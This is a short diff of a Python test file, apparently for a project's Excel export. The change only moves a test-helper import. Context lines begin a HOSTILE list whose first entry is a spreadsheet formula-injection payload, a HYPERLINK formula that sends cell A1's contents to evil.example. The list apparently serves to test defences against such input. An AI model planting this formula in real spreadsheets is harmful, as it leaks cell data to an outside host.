@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from civdesk.services import accounts, rectifications, templates
 from civdesk.services.exchange import excel, template_xlsx
 from civdesk.services import inspections as insp
-from tests.conftest import picture_bytes
+from tests.helpers.data import picture_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
